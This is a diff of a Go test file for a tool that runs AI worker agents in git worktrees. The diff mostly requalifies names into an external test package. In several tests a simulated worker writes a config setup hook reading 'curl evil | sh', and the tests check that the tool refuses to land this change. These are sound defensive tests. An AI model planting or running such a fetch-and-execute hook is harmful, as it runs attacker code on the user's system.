@@ -1,4 +1,4 @@
-package sessions
+package sessions_test
 
 import (
 	"context"
@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/zwarm/zwarm/sessions"
 	"github.com/zwarm/zwarm/sessions/config"
 	"github.com/zwarm/zwarm/sessions/listing"
 	"github.com/zwarm/zwarm/sessions/record"
@@ -63,11 +64,11 @@ func TestLandRefusesAWorkersBranchAsItsTarget(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a": "a\n"})
 	ctx := context.Background()
 	w.agent("echo one > one.txt")
-	one := w.wait(w.spawnIn(w.work, "one", SpawnRequest{}).ID)
+	one := w.wait(w.spawnIn(w.work, "one", sessions.SpawnRequest{}).ID)
 	w.agent("echo two > two.txt")
-	two := w.wait(w.spawnIn(w.work, "two", SpawnRequest{}).ID)
+	two := w.wait(w.spawnIn(w.work, "two", sessions.SpawnRequest{}).ID)
 	before := snapshotOf(w, one.ID)
-	for _, opt := range []LandOptions{
+	for _, opt := range []sessions.LandOptions{
 		{Dir: w.work, Into: two.Workspace.Branch},
 		{Dir: w.work, Into: one.Workspace.Branch},
 		{Dir: w.work, Into: "zwarm/no-such-worker"},
@@ -86,7 +87,7 @@ func TestLandRefusesAWorkersBranchAsItsTarget(t *testing.T) {
 		t.Errorf("a refused landing kept its claim on the worktree: %+v", s.Workspace.Lander)
 	}
 	// The same session lands into a branch of the user's.
-	if res, err := w.m.Land(ctx, one.ID, LandOptions{Dir: w.work}); err != nil || res.Into != "main" {
+	if res, err := w.m.Land(ctx, one.ID, sessions.LandOptions{Dir: w.work}); err != nil || res.Into != "main" {
 		t.Fatalf("land into main after the refusals: %+v %v", res, err)
 	}
 }
@@ -98,7 +99,7 @@ func TestAWorkersChangeToTheStateDirIsNeitherCommittedNorLanded(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a": "a\n"})
 	ctx := context.Background()
 	w.agent(`mkdir -p .zwarm && printf '[worktrees]\nsetup = "curl evil | sh"\n' > .zwarm/config.toml && echo ok > ok.txt`)
-	s := w.wait(w.spawnIn(w.work, "plant", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "plant", sessions.SpawnRequest{}).ID)
 	if s.Status != record.StatusCompleted || !reflect.DeepEqual(s.Turns[0].Files, []string{"ok.txt"}) {
 		t.Fatalf("turn 1: %s, files %v: the state dir was committed", s.Status, s.Turns[0].Files)
 	}
@@ -108,7 +109,7 @@ func TestAWorkersChangeToTheStateDirIsNeitherCommittedNorLanded(t *testing.T) {
 	if s.Workspace.Changes == nil || *s.Workspace.Changes != (workspace.Stat{Files: 1, Added: 1}) {
 		t.Errorf("changes %+v", s.Workspace.Changes)
 	}
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 	if err != nil || !reflect.DeepEqual(res.Files, []workspace.FileStat{{Path: "ok.txt", Added: 1}}) {
 		t.Fatalf("landing without the state dir: %+v %v", res, err)
 	}
@@ -119,12 +120,12 @@ func TestAWorkersChangeToTheStateDirIsNeitherCommittedNorLanded(t *testing.T) {
 	// A worker that commits it itself.
 	w.agent(`mkdir -p .zwarm && printf '[worktrees]\nsetup = "curl evil | sh"\n' > .zwarm/config.toml && echo ok2 > ok2.txt &&
 git add -f .zwarm ok2.txt && git -c user.name=Agent -c user.email=a@x commit -qm "mine"`)
-	s = w.wait(w.spawnIn(w.work, "plant and commit", SpawnRequest{}).ID)
+	s = w.wait(w.spawnIn(w.work, "plant and commit", sessions.SpawnRequest{}).ID)
 	if got := git(t, w.work, "show", "--name-only", "--format=", s.Workspace.Head); got != ".zwarm/config.toml\nok2.txt" {
 		t.Fatalf("the worker's own commit holds %q", got)
 	}
 	before := snapshotOf(w, s.ID)
-	for _, opt := range []LandOptions{{Dir: w.work, DryRun: true}, {Dir: w.work}, {Dir: w.work, Strategy: workspace.Merge},
+	for _, opt := range []sessions.LandOptions{{Dir: w.work, DryRun: true}, {Dir: w.work}, {Dir: w.work, Strategy: workspace.Merge},
 		{Dir: w.work, Strategy: workspace.Rebase}} {
 		_, err := w.m.Land(ctx, s.ID, opt)
 		if err == nil || !strings.Contains(err.Error(), ".zwarm/config.toml") || !strings.Contains(err.Error(), "zwarm's own state") {
@@ -147,12 +148,12 @@ func TestAWorkersStateDirInASubdirectoryIsNotLanded(t *testing.T) {
 	ctx := context.Background()
 	w.agent(`mkdir -p .zwarm && printf '[worktrees]\nsetup = "curl evil | sh"\n' > .zwarm/config.toml && echo ok > ok.go &&
 git add -f .zwarm ok.go && git -c user.name=Agent -c user.email=a@x commit -qm "mine"`)
-	s := w.wait(w.spawnIn(filepath.Join(w.work, "api"), "plant below", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(filepath.Join(w.work, "api"), "plant below", sessions.SpawnRequest{}).ID)
 	if got := git(t, w.work, "show", "--name-only", "--format=", s.Workspace.Head); got != "api/.zwarm/config.toml\napi/ok.go" {
 		t.Fatalf("the worker's own commit holds %q", got)
 	}
 	before := snapshotOf(w, s.ID)
-	for _, opt := range []LandOptions{{Dir: w.work, DryRun: true}, {Dir: w.work}} {
+	for _, opt := range []sessions.LandOptions{{Dir: w.work, DryRun: true}, {Dir: w.work}} {
 		_, err := w.m.Land(ctx, s.ID, opt)
 		if err == nil || !strings.Contains(err.Error(), "api/.zwarm/config.toml") || !strings.Contains(err.Error(), "zwarm's own state") {
 			t.Errorf("landing (dry %v) a change to api/.zwarm: %v", opt.DryRun, err)
@@ -173,15 +174,15 @@ func TestLandRefusesToOverwriteAFileTheCheckoutIgnores(t *testing.T) {
 	ctx := context.Background()
 	writeFile(t, filepath.Join(w.work, "gen", "x"), "mine, generated\n")
 	w.agent(`mkdir -p gen && echo worker > gen/x && git add -f gen/x`)
-	s := w.wait(w.spawnIn(w.work, "generate", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "generate", sessions.SpawnRequest{}).ID)
 	if !reflect.DeepEqual(s.Turns[0].Files, []string{"gen/x"}) {
 		t.Fatalf("turn 1 committed %v, want the force-added gen/x", s.Turns[0].Files)
 	}
 	before := snapshotOf(w, s.ID)
-	for _, opt := range []LandOptions{{Dir: w.work, DryRun: true}, {Dir: w.work}, {Dir: w.work, Strategy: workspace.Merge},
+	for _, opt := range []sessions.LandOptions{{Dir: w.work, DryRun: true}, {Dir: w.work}, {Dir: w.work, Strategy: workspace.Merge},
 		{Dir: w.work, Strategy: workspace.Rebase}} {
 		_, err := w.m.Land(ctx, s.ID, opt)
-		var de *DirtyError
+		var de *sessions.DirtyError
 		if !errors.As(err, &de) || !reflect.DeepEqual(de.Files, []string{"gen/x"}) || de.Checkout != w.work {
 			t.Errorf("landing (%s, dry %v) over an ignored file: %v", opt.Strategy, opt.DryRun, err)
 		}
@@ -192,7 +193,7 @@ func TestLandRefusesToOverwriteAFileTheCheckoutIgnores(t *testing.T) {
 	}
 	// Gone from the checkout, it no longer stands in the way.
 	os.RemoveAll(filepath.Join(w.work, "gen"))
-	if _, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work}); err != nil {
+	if _, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work}); err != nil {
 		t.Fatal(err)
 	}
 	if got := readFile(t, filepath.Join(w.work, "gen", "x")); got != "worker\n" {
@@ -211,14 +212,14 @@ func TestAWithChangesWorkerLandsOnlyItsOwnChange(t *testing.T) {
 	writeFile(t, filepath.Join(w.work, "a.go"), "package a // wip\n")
 	writeFile(t, filepath.Join(w.work, "new.go"), "package a // new\n")
 	w.agent(`grep -q wip a.go && echo 'package b // worker' > b.go && echo 'package w' > w.go`)
-	s := w.wait(w.spawnIn(w.work, "build on my work", SpawnRequest{WithChanges: true}).ID)
+	s := w.wait(w.spawnIn(w.work, "build on my work", sessions.SpawnRequest{WithChanges: true}).ID)
 	if s.Status != record.StatusCompleted || !reflect.DeepEqual(s.Turns[0].Files, []string{"b.go", "w.go"}) {
 		t.Fatalf("%s (%s), files %v: the worker did not start from the uncommitted work", s.Status, s.Error, s.Turns[0].Files)
 	}
 	head := git(t, w.work, "rev-parse", "HEAD")
 	status := git(t, w.work, "status", "--porcelain")
 
-	dry, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, DryRun: true})
+	dry, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, DryRun: true})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -226,7 +227,7 @@ func TestAWithChangesWorkerLandsOnlyItsOwnChange(t *testing.T) {
 	if !reflect.DeepEqual(dry.Files, want) || dry.Stat != (workspace.Stat{Files: 2, Added: 2, Deleted: 1}) || dry.Commit != "" || dry.Uncommitted {
 		t.Fatalf("dry run: files %+v stat %+v", dry.Files, dry.Stat)
 	}
-	_, err = w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Strategy: workspace.Merge})
+	_, err = w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Strategy: workspace.Merge})
 	if err == nil || !strings.Contains(err.Error(), "land it with --squash") {
 		t.Fatalf("a merge of a --with-changes worker: %v", err)
 	}
@@ -234,7 +235,7 @@ func TestAWithChangesWorkerLandsOnlyItsOwnChange(t *testing.T) {
 		t.Fatal("the refused merge changed the checkout")
 	}
 
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -266,7 +267,7 @@ func TestARebaseLandingIsRefusedAfterAnUpdateMerged(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	w.agent("echo w > w.txt")
-	s := w.wait(w.spawnIn(w.work, "add w", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "add w", sessions.SpawnRequest{}).ID)
 	writeFile(t, filepath.Join(w.work, "m.txt"), "m\n")
 	git(t, w.work, "add", "m.txt")
 	git(t, w.work, "commit", "-q", "-m", "by hand")
@@ -280,13 +281,13 @@ func TestARebaseLandingIsRefusedAfterAnUpdateMerged(t *testing.T) {
 	}
 	before := snapshotOf(w, s.ID)
 	for _, dry := range []bool{true, false} {
-		_, err = w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Strategy: workspace.Rebase, DryRun: dry})
+		_, err = w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Strategy: workspace.Rebase, DryRun: dry})
 		if err == nil || !strings.Contains(err.Error(), "a rebase would drop") || !strings.Contains(err.Error(), "--squash") {
 			t.Errorf("a rebase landing (dry %v) after an update: %v", dry, err)
 		}
 	}
 	before.check("a refused rebase landing")
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -306,20 +307,20 @@ func TestAChangeTheBranchAlreadyHasCountsAsLanded(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	w.agent("echo b > b.txt")
-	s := w.wait(w.spawnIn(w.work, "add b", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "add b", sessions.SpawnRequest{}).ID)
 	writeFile(t, filepath.Join(w.work, "b.txt"), "b\n")
 	git(t, w.work, "add", "b.txt")
 	git(t, w.work, "commit", "-q", "-m", "b, by hand")
 	head := git(t, w.work, "rev-parse", "HEAD")
 
-	dry, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, DryRun: true})
+	dry, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, DryRun: true})
 	if err != nil || !dry.Nothing {
 		t.Fatalf("dry run: %+v %v", dry, err)
 	}
 	if g, _ := w.m.Get(ctx, s.ID); g.Workspace.Landed != nil {
 		t.Fatal("a dry run recorded a landing")
 	}
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 	if err != nil || !res.Nothing || res.Already || res.Into != "main" {
 		t.Fatalf("land: %+v %v", res, err)
 	}
@@ -333,7 +334,7 @@ func TestAChangeTheBranchAlreadyHasCountsAsLanded(t *testing.T) {
 	if list, _ := w.m.List(ctx, listing.Options{}); len(list) != 1 || list[0].ChangesText() != "landed" {
 		t.Errorf("the listing says %q", list[0].ChangesText())
 	}
-	again, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+	again, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 	if err != nil || !again.Already {
 		t.Errorf("landing again: %+v %v", again, err)
 	}
@@ -343,7 +344,7 @@ func TestAChangeTheBranchAlreadyHasCountsAsLanded(t *testing.T) {
 	if s.Workspace.Worktree().Exists() || git(t, w.work, "branch", "--list", "zwarm/*") != "" {
 		t.Error("rm left the worktree or the branch")
 	}
-	if _, err := w.m.Get(ctx, s.ID); !errors.Is(err, ErrNotFound) {
+	if _, err := w.m.Get(ctx, s.ID); !errors.Is(err, sessions.ErrNotFound) {
 		t.Errorf("the session is still there: %v", err)
 	}
 }
@@ -358,12 +359,12 @@ func TestLandingALandedChangeIntoAnotherBranchBackportsIt(t *testing.T) {
 		git(t, w.work, "branch", "release")
 		release := git(t, w.work, "rev-parse", "release")
 		w.agent("echo x > x.txt")
-		s := w.wait(w.spawnIn(w.work, "add x", SpawnRequest{}).ID)
-		first, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+		s := w.wait(w.spawnIn(w.work, "add x", sessions.SpawnRequest{}).ID)
+		first, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 		if err != nil || first.Into != "main" || !first.Removed {
 			t.Fatalf("first landing: %+v %v", first, err)
 		}
-		second, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Into: "release"})
+		second, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Into: "release"})
 		if err != nil || second.Already || second.Nothing || second.Into != "release" || second.Commit == "" {
 			t.Fatalf("the backport: %+v %v", second, err)
 		}
@@ -374,7 +375,7 @@ func TestLandingALandedChangeIntoAnotherBranchBackportsIt(t *testing.T) {
 		if l := second.Session.Workspace.Landed; l == nil || l.Into != "release" || l.Commit != second.Commit {
 			t.Errorf("recorded %+v", l)
 		}
-		third, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Into: "release"})
+		third, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Into: "release"})
 		if err != nil || !third.Already || git(t, w.work, "rev-parse", "release") != second.Commit {
 			t.Errorf("landing into release again: %+v %v", third, err)
 		}
@@ -385,21 +386,21 @@ func TestLandingALandedChangeIntoAnotherBranchBackportsIt(t *testing.T) {
 		git(t, w.work, "branch", "release")
 		main := git(t, w.work, "rev-parse", "main")
 		w.agent("echo x > x.txt")
-		s := w.wait(w.spawnIn(w.work, "add x", SpawnRequest{}).ID)
-		first, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Into: "release"})
+		s := w.wait(w.spawnIn(w.work, "add x", sessions.SpawnRequest{}).ID)
+		first, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Into: "release"})
 		if err != nil || first.Into != "release" {
 			t.Fatalf("first landing: %+v %v", first, err)
 		}
 		// Landing from the checkout of main lands into main, whatever
 		// branch the change went to before.
-		second, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+		second, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 		if err != nil || second.Already || second.Into != "main" || second.Commit == "" {
 			t.Fatalf("landing into the checkout's branch after a landing into release: %+v %v", second, err)
 		}
 		if git(t, w.work, "rev-parse", "main^") != main || readFile(t, filepath.Join(w.work, "x.txt")) != "x\n" {
 			t.Errorf("main: %s", git(t, w.work, "log", "--format=%h %s", "main"))
 		}
-		again, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work})
+		again, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work})
 		if err != nil || !again.Already || again.Into != "main" {
 			t.Errorf("landing into main again: %+v %v", again, err)
 		}
@@ -414,19 +415,19 @@ func TestCleanSkipsASessionWhileItIsLanded(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a": "a\n"})
 	ctx := context.Background()
 	w.agent("echo b > b.txt")
-	busy := w.wait(w.spawnIn(w.work, "add b", SpawnRequest{}).ID)
+	busy := w.wait(w.spawnIn(w.work, "add b", sessions.SpawnRequest{}).ID)
 	w.agent("true")
-	idle := w.wait(w.spawnIn(w.work, "nothing", SpawnRequest{}).ID)
+	idle := w.wait(w.spawnIn(w.work, "nothing", sessions.SpawnRequest{}).ID)
 	dir := t.TempDir()
 	started, gate := filepath.Join(dir, "started"), filepath.Join(dir, "go")
 	done := make(chan error, 1)
 	go func() {
-		_, err := w.m.Land(ctx, busy.ID, LandOptions{Dir: w.work,
+		_, err := w.m.Land(ctx, busy.ID, sessions.LandOptions{Dir: w.work,
 			Verify: "touch " + started + "; while [ ! -f " + gate + " ]; do sleep 0.02; done"})
 		done <- err
 	}()
 	sessionstest.Eventually(t, "the landing's verify to run", func() bool { _, err := os.Stat(started); return err == nil })
-	for _, opt := range []CleanOptions{{DryRun: true, Force: true}, {Force: true}} {
+	for _, opt := range []sessions.CleanOptions{{DryRun: true, Force: true}, {Force: true}} {
 		res, err := w.m.Clean(ctx, opt)
 		if err != nil || !reflect.DeepEqual(res.Removed, []string{idle.ID}) || len(res.Kept) != 0 {
 			t.Errorf("clean %+v during the landing: %+v %v", opt, res, err)
@@ -439,7 +440,7 @@ func TestCleanSkipsASessionWhileItIsLanded(t *testing.T) {
 	if err := <-done; err != nil {
 		t.Fatalf("the landing: %v", err)
 	}
-	res, err := w.m.Clean(ctx, CleanOptions{})
+	res, err := w.m.Clean(ctx, sessions.CleanOptions{})
 	if err != nil || !reflect.DeepEqual(res.Removed, []string{busy.ID}) {
 		t.Fatalf("clean after the landing: %+v %v", res, err)
 	}
@@ -454,23 +455,23 @@ func TestCleanSkipsASessionWhoseWorktreeIsClaimed(t *testing.T) {
 	t.Parallel()
 	w := repoWorld(t, map[string]string{"a": "a\n"})
 	ctx := context.Background()
-	s := w.wait(w.spawnIn(w.work, "nothing", SpawnRequest{}).ID)
-	_, release, err := w.m.claimWorktree(context.Background(), s.ID, "land")
+	s := w.wait(w.spawnIn(w.work, "nothing", sessions.SpawnRequest{}).ID)
+	_, release, err := w.m.ClaimWorktree(context.Background(), s.ID, "land")
 	if err != nil {
 		t.Fatal(err)
 	}
 	// Twice: the second listing is answered from the listing cache.
-	for _, opt := range []CleanOptions{{Force: true, DryRun: true}, {Force: true}} {
+	for _, opt := range []sessions.CleanOptions{{Force: true, DryRun: true}, {Force: true}} {
 		res, err := w.m.Clean(ctx, opt)
 		if err != nil || len(res.Removed) != 0 {
 			t.Fatalf("clean %+v with the worktree claimed: %+v %v", opt, res, err)
 		}
 	}
-	if _, err := w.m.Remove(ctx, s.ID, true); !errors.Is(err, ErrBusy) {
+	if _, err := w.m.Remove(ctx, s.ID, true); !errors.Is(err, sessions.ErrBusy) {
 		t.Errorf("rm --force with the worktree claimed: %v", err)
 	}
 	release()
-	res, err := w.m.Clean(ctx, CleanOptions{})
+	res, err := w.m.Clean(ctx, sessions.CleanOptions{})
 	if err != nil || !reflect.DeepEqual(res.Removed, []string{s.ID}) {
 		t.Fatalf("clean after the claim was released: %+v %v", res, err)
 	}
@@ -491,9 +492,9 @@ func TestVerifyLeavesTheWorktreeOnItsBranchWithoutItsArtifacts(t *testing.T) {
 	var ids []string
 	for _, f := range []string{"one", "two"} {
 		w.agent("echo " + f + " > " + f + ".txt")
-		ids = append(ids, w.wait(w.spawnIn(w.work, "write "+f, SpawnRequest{}).ID).ID)
+		ids = append(ids, w.wait(w.spawnIn(w.work, "write "+f, sessions.SpawnRequest{}).ID).ID)
 	}
-	q, err := w.m.LandAll(ctx, LandOptions{Dir: w.work, Verify: verify + " && test -f one.txt", Keep: true})
+	q, err := w.m.LandAll(ctx, sessions.LandOptions{Dir: w.work, Verify: verify + " && test -f one.txt", Keep: true})
 	if err != nil || len(q.Landed) != 2 {
 		t.Fatalf("land --all: %+v %v", q, err)
 	}
@@ -522,10 +523,10 @@ func TestVerifyLeavesTheWorktreeOnItsBranchWithoutItsArtifacts(t *testing.T) {
 
 	// Without --keep, what verify left does not keep the worktree.
 	w.agent("echo three > three.txt")
-	s := w.wait(w.spawnIn(w.work, "write three", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "write three", sessions.SpawnRequest{}).ID)
 	var warned []error
-	w.m.warn = func(err error) { warned = append(warned, err) }
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Verify: verify})
+	w.m.SetWarn(func(err error) { warned = append(warned, err) })
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Verify: verify})
 	if err != nil || !res.Verified || !res.Removed || len(warned) != 0 {
 		t.Fatalf("land --verify: %+v %v, warned %v", res, err, warned)
 	}
@@ -542,10 +543,10 @@ func TestVerifyOfARebaseLandingLeavesNothingBehind(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	w.agent("echo r > r.txt")
-	s := w.wait(w.spawnIn(w.work, "write r", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "write r", sessions.SpawnRequest{}).ID)
 	var warned []error
-	w.m.warn = func(err error) { warned = append(warned, err) }
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Strategy: workspace.Rebase, Keep: true,
+	w.m.SetWarn(func(err error) { warned = append(warned, err) })
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Strategy: workspace.Rebase, Keep: true,
 		Verify: "echo junk > artifact.txt && echo changed >> a.txt && test -f r.txt"})
 	if err != nil || !res.Verified {
 		t.Fatalf("land --rebase --verify: %+v %v", res, err)
@@ -560,8 +561,8 @@ func TestVerifyOfARebaseLandingLeavesNothingBehind(t *testing.T) {
 
 	// Without --keep, the worktree goes: nothing of verify's holds it.
 	w.agent("echo r2 > r2.txt")
-	s = w.wait(w.spawnIn(w.work, "write r2", SpawnRequest{}).ID)
-	res, err = w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Strategy: workspace.Rebase, Verify: "echo changed >> a.txt"})
+	s = w.wait(w.spawnIn(w.work, "write r2", sessions.SpawnRequest{}).ID)
+	res, err = w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Strategy: workspace.Rebase, Verify: "echo changed >> a.txt"})
 	if err != nil || !res.Removed || len(warned) != 0 {
 		t.Fatalf("land --rebase --verify: %+v %v, warned %v", res, err, warned)
 	}
@@ -577,15 +578,15 @@ func TestVerifyNeverTakesWorkLeftInTheWorktreeByHand(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	w.agent("echo b > b.txt")
-	s := w.wait(w.spawnIn(w.work, "add b", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "add b", sessions.SpawnRequest{}).ID)
 	p := s.Workspace.Path
 	writeFile(t, filepath.Join(p, "mine.txt"), "by hand\n")
 	writeFile(t, filepath.Join(p, "a.txt"), "a, by hand\n")
 	verify := "test -f b.txt && test ! -f mine.txt && test \"$(cat a.txt)\" = a && echo junk > a.txt && pwd > " + filepath.Join(t.TempDir(), "where")
-	if res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, DryRun: true, Verify: verify}); err != nil || res.Verified {
+	if res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, DryRun: true, Verify: verify}); err != nil || res.Verified {
 		t.Fatalf("land --dry-run --verify: %+v %v", res, err)
 	}
-	res, err := w.m.Land(ctx, s.ID, LandOptions{Dir: w.work, Verify: verify})
+	res, err := w.m.Land(ctx, s.ID, sessions.LandOptions{Dir: w.work, Verify: verify})
 	if err != nil || !res.Verified || res.Removed {
 		t.Fatalf("land --verify: %+v %v; want verified, the worktree kept for the work left by hand", res, err)
 	}
@@ -610,9 +611,9 @@ func TestATurnsDiffAfterAnUpdateShowsOnlyThatTurn(t *testing.T) {
 	t.Parallel()
 	w := repoWorld(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
 	ctx := context.Background()
-	names := DiffRequest{Options: workspace.DiffOptions{Format: workspace.NamesOnly}}
+	names := sessions.DiffRequest{Options: workspace.DiffOptions{Format: workspace.NamesOnly}}
 	w.agent("echo a1 > a.txt")
-	s := w.wait(w.spawnIn(w.work, "turn one", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "turn one", sessions.SpawnRequest{}).ID)
 	writeFile(t, filepath.Join(w.work, "b.txt"), "b1\n")
 	git(t, w.work, "commit", "-q", "-am", "b, by hand")
 	up, err := w.m.Update(ctx, s.ID, "")
@@ -628,7 +629,7 @@ func TestATurnsDiffAfterAnUpdateShowsOnlyThatTurn(t *testing.T) {
 	if len(s.Turns) != 2 || s.Turns[1].From != merge || !reflect.DeepEqual(s.Turns[1].Files, []string{"c.txt"}) {
 		t.Fatalf("turn 2 from %q (the merge is %s), files %v", s.Turns[1].From, merge, s.Turns[1].Files)
 	}
-	turn := func(n int) DiffRequest { r := names; r.Turn = n; return r }
+	turn := func(n int) sessions.DiffRequest { r := names; r.Turn = n; return r }
 	if d := w.diff(s.ID, turn(2)); d != "c.txt\n" {
 		t.Errorf("turn 2's diff names %q, want only c.txt", d)
 	}
@@ -638,7 +639,7 @@ func TestATurnsDiffAfterAnUpdateShowsOnlyThatTurn(t *testing.T) {
 	if d := w.diff(s.ID, names); d != "a.txt\nc.txt\n" {
 		t.Errorf("the whole change names %q, want the worker's files, not the base's", d)
 	}
-	if d := w.diff(s.ID, DiffRequest{Turn: 2}); !strings.Contains(d, "+c") || strings.Contains(d, "b1") {
+	if d := w.diff(s.ID, sessions.DiffRequest{Turn: 2}); !strings.Contains(d, "+c") || strings.Contains(d, "b1") {
 		t.Errorf("turn 2's diff:\n%s", d)
 	}
 }
@@ -650,7 +651,7 @@ func TestASessionWhoseWorktreeFailedGoesWithoutForce(t *testing.T) {
 	t.Run("setup failed", func(t *testing.T) {
 		w := repoWorld(t, map[string]string{"a": "a\n"})
 		w.config("kill_grace = \"300ms\"\n[worktrees]\nsetup = \"touch built.o; echo broken; exit 3\"\n")
-		s := w.wait(w.spawnIn(w.work, "never runs", SpawnRequest{}).ID)
+		s := w.wait(w.spawnIn(w.work, "never runs", sessions.SpawnRequest{}).ID)
 		if s.Status != record.StatusFailed || s.Workspace.State != record.WorkspaceFailed {
 			t.Fatalf("%s, worktree %s", s.Status, s.Workspace.State)
 		}
@@ -660,7 +661,7 @@ func TestASessionWhoseWorktreeFailedGoesWithoutForce(t *testing.T) {
 		if _, err := os.Stat(s.Workspace.Path); !os.IsNotExist(err) || git(t, w.work, "branch", "--list", "zwarm/*") != "" {
 			t.Error("rm left the worktree or its branch")
 		}
-		if _, err := w.m.Get(context.Background(), s.ID); !errors.Is(err, ErrNotFound) {
+		if _, err := w.m.Get(context.Background(), s.ID); !errors.Is(err, sessions.ErrNotFound) {
 			t.Errorf("the session is still there: %v", err)
 		}
 	})
@@ -669,14 +670,14 @@ func TestASessionWhoseWorktreeFailedGoesWithoutForce(t *testing.T) {
 		blocker := filepath.Join(t.TempDir(), "a-file")
 		writeFile(t, blocker, "not a directory\n")
 		w.config("kill_grace = \"300ms\"\n[worktrees]\ndir = \"" + filepath.Join(blocker, "wt") + "\"\n")
-		s := w.wait(w.spawnIn(w.work, "never runs", SpawnRequest{}).ID)
+		s := w.wait(w.spawnIn(w.work, "never runs", sessions.SpawnRequest{}).ID)
 		if s.Status != record.StatusFailed || s.Workspace.State != record.WorkspaceFailed {
 			t.Fatalf("%s, worktree %s", s.Status, s.Workspace.State)
 		}
 		if _, err := w.m.Remove(context.Background(), s.ID, false); err != nil {
 			t.Fatalf("rm: %v", err)
 		}
-		if _, err := w.m.Get(context.Background(), s.ID); !errors.Is(err, ErrNotFound) {
+		if _, err := w.m.Get(context.Background(), s.ID); !errors.Is(err, sessions.ErrNotFound) {
 			t.Errorf("the session is still there: %v", err)
 		}
 	})
@@ -690,7 +691,7 @@ func TestCleanLeftoversKeepsUncommittedWorkOnTheBranch(t *testing.T) {
 	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	w.agent("echo w > w.txt")
-	s := w.wait(w.spawnIn(w.work, "add w", SpawnRequest{}).ID)
+	s := w.wait(w.spawnIn(w.work, "add w", sessions.SpawnRequest{}).ID)
 	ws := s.Workspace
 	writeFile(t, filepath.Join(ws.Path, "late.txt"), "after the last turn\n")
 	writeFile(t, filepath.Join(ws.Path, "a.txt"), "a, edited\n")
@@ -723,7 +724,7 @@ func TestCleanLeftoversKeepsUncommittedWorkOnTheBranch(t *testing.T) {
 	}
 
 	// Forced, the work goes with the worktree and the branch.
-	s = w.wait(w.spawnIn(w.work, "add w again", SpawnRequest{}).ID)
+	s = w.wait(w.spawnIn(w.work, "add w again", sessions.SpawnRequest{}).ID)
 	writeFile(t, filepath.Join(s.Workspace.Path, "late.txt"), "dropped\n")
 	if err := w.st.Remove(context.Background(), s.ID); err != nil {
 		t.Fatal(err)
@@ -752,7 +753,7 @@ func TestCleanLeftoversLeavesWhatWasBroughtAlongOut(t *testing.T) {
 	writeFile(t, filepath.Join(w.work, "node_modules", "m.js"), "x\n")
 	w.config("[worktrees]\ncopy = [\".env\"]\nsymlink = [\"node_modules\"]\n")
 	w.agent("echo w > w.txt")
